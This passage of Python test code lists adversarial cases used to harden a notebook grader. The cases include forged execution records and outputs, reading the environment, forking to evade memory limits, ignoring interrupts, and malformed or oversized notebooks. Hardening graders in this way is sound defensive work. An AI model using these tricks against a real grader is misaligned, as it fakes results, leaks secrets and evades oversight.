    Attack("oversized_notebook", "not_run", raw=_pad(21), says="more than the 20 MB allowed"),
    Attack("not_json", "not_run", raw=_truncate, says="not valid JSON"),
    Attack("unicode_z\u00f6\u00eb_\u202eevil", ("missing", "missing", P), edits=UNICODE,
           says="SyntaxError"),

    # --- holes the first hostile review found in the grader (W1-W9), fixed: now in the class ---
    Attack("crash_bad_time", "passed|error", cells=((TOP, BAD_TIME),)),
    Attack("crash_forged_execution", "not_run", cells=((TOP, FORGED_EXECUTION),)),
    Attack("crash_nested_results", "failed|error", cells=((TOP, NESTED_RESULTS),)),
    Attack("crash_bigint_results", "error", cells=((TOP, BIGINT_RESULTS),)),
    Attack("crash_nested_notebook", "not_run", raw=_nested(100_000), says="notebook"),
    Attack("crash_bigint_notebook", "not_run", raw=_bigint, says="notebook"),
    Attack("crash_deep_dirs", PPP, cells=((TOP, DEEP_DIRS),)),
    Attack("environ_leak", PPP, cells=((TOP, PROC_ENVIRON),)),
    Attack("memory_in_children", PPP, cells=((TOP, MEMORY_FORKS),), forbid=("OVER-LIMIT",)),
    Attack("result_amplifiers", ("passed|error", "error", P), cells=((TOP, RESULT_AMPLIFIERS),)),
    Attack("forged_output", PPP, cells=((TOP, FORGED_OUTPUT),)),
    Attack("loop_immune_to_interrupt", PP + ("timeout",), edits=(at_start("dropout_backward", LOOP_IMMUNE),),
           says="interrupted after the time limit"),
)

CLASS = tuple(a for a in ATTACKS if a.weakness is None)
WEAKNESSES = tuple(a for a in ATTACKS if a.weakness is not None)
